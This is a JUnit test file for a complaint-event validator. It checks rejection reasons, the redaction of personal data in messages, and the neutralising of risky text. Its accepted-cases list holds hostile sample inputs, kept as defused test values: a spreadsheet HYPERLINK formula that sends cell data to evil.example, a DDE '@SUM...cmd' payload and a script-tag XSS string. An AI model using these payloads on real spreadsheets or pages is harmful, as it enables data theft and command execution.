package io.qualityloop.events.validation;

import static org.assertj.core.api.Assertions.assertThat;

import io.qualityloop.events.ComplaintEvent;
import io.qualityloop.events.EventStream;
import io.qualityloop.events.ReferenceData;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Set;
import java.util.stream.Stream;
import org.assertj.core.groups.Tuple;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The bad-input corpus ({@code src/test/resources/corpus}): where each record ends up and what the
 * user reads about it. Judged at 2026-03-06 with 10 minutes of skew.
 */
class EventValidatorTest {
  private static final Instant NOW = Instant.parse("2026-03-06T00:00:00Z");
  private static final ValidationRules RULES =
      new ValidationRules(
          Duration.ofMinutes(10),
          Instant.parse("2000-01-01T00:00:00Z"),
          64 * 1024,
          Set.of("P01", "P02"),
          Set.of("S001"));
  private final EventValidator validator = new EventValidator(EventStream.COMPLAINT_EVENTS, RULES);

  private static byte[] corpus(String name) throws IOException {
    try (InputStream in = EventValidatorTest.class.getResourceAsStream("/corpus/" + name)) {
      return in.readAllBytes();
    }
  }

  @ParameterizedTest(name = "{0} -> {1}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      textBlock =
          """
          empty.json                     | EMPTY_PAYLOAD      | record at t/0/7 is empty
          malformed.json                 | MALFORMED_JSON     | "record at t/0/7 is not valid JSON (line 1, column 42): Unexpected character ('o' (code 111)): was expecting double-quote to start field name"
          truncated.json                 | MALFORMED_JSON     | record at t/0/7 is not valid JSON
          wrong-encoding-gbk.json        | MALFORMED_JSON     | Invalid UTF-8
          not-an-object.json             | SCHEMA_VIOLATION   | record at t/0/7 is JSON but not an object
          wrong-type.json                | SCHEMA_VIOLATION   | "event E-100 at t/0/7 breaks the complaint_events contract: /public_area: string found, [boolean, null] expected; /schema_version: must be the constant value '1'"
          missing-field.json             | SCHEMA_VIOLATION   | "event E-100 at t/0/7 breaks the complaint_events contract: required property 'complaint_id' not found"
          unknown-enum.json              | SCHEMA_VIOLATION   | /event_type: does not have a value in the enumeration
          unknown-field-with-phone.json  | SCHEMA_VIOLATION   | property 'customer_phone' is not defined in the schema and the schema does not allow additional properties
          bad-date.json                  | SCHEMA_VIOLATION   | /occurred_at: does not match the date-time pattern must be a valid RFC 3339 date-time
          far-future.json                | FUTURE_TIMESTAMP   | event E-100 at t/0/7 happened at 2099-01-01T00:00+08:00, later than now (2026-03-06T00:00:00Z) plus the allowed skew of 10 minutes
          ancient.json                   | ANCIENT_TIMESTAMP  | happened at 1900-01-01T00:00+08:00, before the oldest plausible time 2000-01-01T00:00:00Z
          accepted-without-category.json | LIFECYCLE_MISMATCH | event E-100 at t/0/7 (ACCEPTED): an accepted complaint needs its category
          extended-without-date.json     | LIFECYCLE_MISMATCH | an extension needs extended_until
          signed-off-on-close.json       | LIFECYCLE_MISMATCH | customer_signed_off belongs to RESOLVED events only
          phone-in-room.json             | PERSONAL_DATA      | event E-100 at t/0/7: field room holds what looks like a [手机号] (personal data is not kept in structured fields)
          """)
  void badRecordsAreRejectedWithAReasonAndAMessageNamingTheRecord(
      String file, ReasonCode reason, String message) throws Exception {
    Validation v = validator.validate(corpus(file), NOW, "t/0/7");

    assertThat(v).isInstanceOf(Validation.Invalid.class);
    Validation.Invalid invalid = (Validation.Invalid) v;
    assertThat(invalid.reason()).isEqualTo(reason);
    assertThat(invalid.message()).contains(message);
  }

  @Test
  void rejectionMessagesNeverRepeatPersonalData() throws Exception {
    Validation.Invalid v =
        (Validation.Invalid)
            validator.validate(corpus("unknown-field-with-phone.json"), NOW, "t/0/7");

    assertThat(v.message()).contains("customer_phone").doesNotContain("13812345678", "张三");
    assertThat(
            ((Validation.Invalid) validator.validate(corpus("phone-in-room.json"), NOW, "t/0/7"))
                .message())
        .doesNotContain("13800001111");
    Validation.Invalid token =
        (Validation.Invalid)
            validator.validate("{\"event_id\": 13812345678x}".getBytes(), NOW, "t/0/8");
    assertThat(token.message()).doesNotContain("13812345678");
  }

  @Test
  void aRoomPseudonymWhoseHexRunsLikeAPhoneNumberIsNotPersonalData() {
    String pseudonym =
        "rm_13812345678abcdef0123456789abcd"; // 32 hex digits, the first 11 a mobile number's shape
    Validation v =
        validator.validate(
            ("{\"event_id\":\"E-7\",\"schema_version\":1,\"occurred_at\":\"2026-03-05T09:12:00+08:00\","
                 + "\"complaint_id\":\"C-7\",\"event_type\":\"RECEIVED\",\"project_id\":\"P01\",\"building\":\"3\",\"unit\":\"2\","
                 + "\"room_pseudonym\":\""
                    + pseudonym
                    + "\"}")
                .getBytes(StandardCharsets.UTF_8),
            NOW,
            "t/0/9");

    assertThat(v).isInstanceOf(Validation.Valid.class);
    assertThat(((ComplaintEvent) ((Validation.Valid) v).event()).roomPseudonym())
        .isEqualTo(pseudonym);
  }

  @Test
  void oversizedRecordsAreRejectedBeforeAnyParsing() {
    byte[] huge =
        ("{\"event_id\":\"E-1\",\"description\":\"" + "漏".repeat(40_000) + "\"}")
            .getBytes(StandardCharsets.UTF_8);

    Validation.Invalid v = (Validation.Invalid) validator.validate(huge, NOW, "t/0/9");

    assertThat(v.reason()).isEqualTo(ReasonCode.OVERSIZED);
    assertThat(v.message())
        .isEqualTo("record at t/0/9 has 120,035 bytes, more than the maximum of 65,536");
  }

  static Stream<Arguments> acceptedCases() {
    return Stream.of(
        Arguments.of("valid.json", "卫生间天花板渗水"),
        Arguments.of(
            "control-characters.json",
            "渗水严重[31m"), // the escape character is gone; the rest is plain text
        Arguments.of(
            "formula-injection.json", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")"),
        Arguments.of("at-sum.json", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        Arguments.of(
            "html-script.json",
            "<script>alert('x')</script><b>漏水</b>"), // kept as text; reports escape it
        Arguments.of("contact-in-text.json", "业主电话[手机号]，身份证[身份证号]，邮箱[邮箱]，座机[电话]"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("acceptedCases")
  void acceptedRecordsLandWithTheirTextMadeSafe(String file, String description) throws Exception {
    Validation v = validator.validate(corpus(file), NOW, "t/0/7");

    assertThat(v).isInstanceOf(Validation.Valid.class);
    ComplaintEvent e = (ComplaintEvent) ((Validation.Valid) v).event();
    assertThat(e.description()).isEqualTo(description);
    assertThat(((Validation.Valid) v).flags()).isEmpty();
  }

  @Test
  void unknownProjectsAreFlaggedNotDropped() throws Exception {
    Validation.Valid v =
        (Validation.Valid) validator.validate(corpus("unknown-project.json"), NOW, "t/0/7");

    assertThat(v.flags())
        .extracting(Flag::code, Flag::message)
        .containsExactly(
            Tuple.tuple(
                FlagCode.UNKNOWN_PROJECT, "event E-100: project P99 is not in projects.csv"));
  }

  @Test
  void codesTheCompanysReferenceFilesDoNotHaveAreFlaggedAndTheStepStillLands() {
    ValidationRules rules = RULES.withCodes(ReferenceData.readCodes(shippedReference()));
    EventValidator door = new EventValidator(EventStream.COMPLAINT_EVENTS, rules);
    String accepted =
        "{\"event_id\": \"E-200\", \"schema_version\": 1, \"occurred_at\":"
            + " \"2026-03-05T09:12:00+08:00\", \"complaint_id\": \"C-200\", \"event_type\":"
            + " \"ACCEPTED\", \"project_id\": \"P01\", \"staff_id\": \"S001\", \"category\":"
            + " \"product\", \"sub_category\": %s, \"root_cause\": %s, \"building_component\": %s,"
            + " \"responsible_department\": %s}";

    Validation.Valid known =
        (Validation.Valid)
            door.validate(
                String.format(
                        accepted,
                        "\"house_quality\"",
                        "\"workmanship\"",
                        "\"waterproofing\"",
                        "\"engineering\"")
                    .getBytes(StandardCharsets.UTF_8),
                NOW,
                "t/0/1");
    Validation.Valid unknown =
        (Validation.Valid)
            door.validate(
                String.format(
                        accepted, "\"gutters\"", "\"bad_luck\"", "\"solar_panel\"", "\"marketing\"")
                    .getBytes(StandardCharsets.UTF_8),
                NOW,
                "t/0/2");

    assertThat(known.flags()).isEmpty();
    assertThat(unknown.flags())
        .extracting(Flag::code, Flag::message)
        .containsExactly(
            Tuple.tuple(
                FlagCode.UNKNOWN_COMPONENT,
                "event E-200: building component solar_panel is not in building_components.csv"),
            Tuple.tuple(
                FlagCode.UNKNOWN_CATEGORY,
                "event E-200: sub-category gutters of product is not in complaint_taxonomy.csv"),
            Tuple.tuple(
                FlagCode.UNKNOWN_ROOT_CAUSE,
                "event E-200: root cause bad_luck is not in root_causes.csv"),
            Tuple.tuple(
                FlagCode.UNKNOWN_DEPARTMENT,
                "event E-200: department marketing is not in departments.csv"));
    assertThat(unknown.event()).isInstanceOf(ComplaintEvent.class);
  }

  private static Path shippedReference() {
    try {
      Path dir = Files.createTempDirectory("reference");
      ReferenceData.copyStaticFiles(dir);
      return dir;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
